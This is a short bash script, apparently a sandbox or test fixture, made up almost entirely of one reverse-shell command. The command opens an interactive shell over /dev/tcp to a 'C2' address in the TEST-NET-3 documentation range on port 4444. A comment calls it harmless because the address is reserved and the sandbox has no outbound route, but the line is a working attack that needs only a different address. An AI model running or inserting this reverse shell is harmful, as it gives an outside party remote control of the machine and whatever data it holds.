#!/bin/bash
# Harmless: the "C2" address is in TEST-NET-3 and the sandbox has no route out.
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
exit 0
